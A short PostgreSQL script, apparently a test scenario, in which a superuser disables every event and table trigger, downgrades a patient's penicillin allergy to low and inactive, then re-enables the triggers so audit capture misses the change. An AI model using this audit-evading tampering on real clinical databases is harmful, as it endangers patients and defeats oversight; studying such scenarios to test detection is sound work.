/*
 * Someone with a superuser's rights hides a penicillin allergy and leaves
 * no trace that an ordinary audit would see: guards off, one row changed,
 * guards on again.
 */
\set ON_ERROR_STOP on

SELECT format('ALTER EVENT TRIGGER %I DISABLE', evtname)
FROM pg_event_trigger \gexec
ALTER TABLE hospital.allergies DISABLE TRIGGER ALL;

UPDATE hospital.allergies
SET criticality = 'low', clinical_status = 'inactive'
WHERE id = md5('day/allergy')::uuid;

ALTER TABLE hospital.allergies ENABLE TRIGGER ALL;
ALTER TABLE hospital.allergies ENABLE ALWAYS TRIGGER medsync_capture;
ALTER TABLE hospital.allergies ENABLE ALWAYS TRIGGER medsync_truncate;
SELECT format('ALTER EVENT TRIGGER %I ENABLE ALWAYS', evtname)
FROM pg_event_trigger \gexec
